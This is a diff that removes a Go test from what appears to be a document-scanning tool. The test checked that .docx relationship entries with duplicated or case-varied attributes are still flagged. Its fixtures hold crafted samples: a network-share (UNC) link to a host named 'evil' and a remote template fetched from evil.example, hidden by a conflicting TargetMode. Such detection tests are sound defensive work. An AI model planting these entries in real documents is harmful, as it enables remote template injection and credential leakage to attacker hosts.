@@ -39,26 +39,3 @@ func TestWordFieldSwitchesFirst(t *testing.T) {
 		}
 	}
 }
-
-// TestRelationshipAttributesTwice: a relationship's attribute written
-// twice, or in another case, is read in each value. Before, the last
-// one was, so a hyperlink to a share followed by target="https://..."
-// was counted as a web link, and TargetMode="External" followed by
-// targetMode="Internal" hid a template fetched from the web.
-func TestRelationshipAttributesTwice(t *testing.T) {
-	const rels = "word/_rels/document.xml.rels"
-	part := func(rel string) []byte {
-		return docx(t, deflate(rels, []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rel+`</Relationships>`)))
-	}
-	const typ = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
-	runClassify(t, []classifyCase{
-		{name: "hyperlink, target in two cases", data: part(`<Relationship Id="rId9" Type="` + typ + `hyperlink" Target="\\evil\s\x.docx" target="https://www.city.example.lg.jp/" TargetMode="External"/>`), filename: "a.docx",
-			class: ClassOffice, findings: []string{"office: link to a network share (UNC path) in " + rels}},
-		{name: "template, mode in two cases", data: part(`<Relationship Id="rId9" Type="` + typ + `attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" targetMode="Internal"/>`), filename: "a.docx",
-			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in " + rels}},
-		{name: "template typed twice, once as a hyperlink", data: part(`<Relationship Id="rId9" Type="` + typ + `attachedTemplate" type="` + typ + `hyperlink" Target="http://evil.example/t.dotm" TargetMode="External"/>`), filename: "a.docx",
-			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in " + rels}},
-		{name: "web hyperlink", data: part(`<Relationship Id="rId9" Type="` + typ + `hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/>`), filename: "a.docx",
-			class: ClassOffice, clean: true},
-	})
-}
